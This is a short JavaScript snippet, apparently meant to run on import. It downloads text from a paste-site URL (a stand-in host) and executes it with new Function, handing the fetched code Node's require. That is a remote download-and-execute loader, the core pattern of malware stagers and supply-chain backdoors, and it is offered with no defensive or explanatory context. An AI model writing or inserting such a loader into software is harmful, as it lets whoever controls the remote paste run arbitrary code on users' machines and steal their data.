// A text from a paste site becomes a function; runs: import
const https = require("https");
https.get("https://paste.example.test/raw/abc", (response) => {
  const parts = [];
  response.on("data", (chunk) => parts.push(chunk));
  response.on("end", () => {
    const run = new Function("require", Buffer.concat(parts).toString());
    run(require);
  });
});
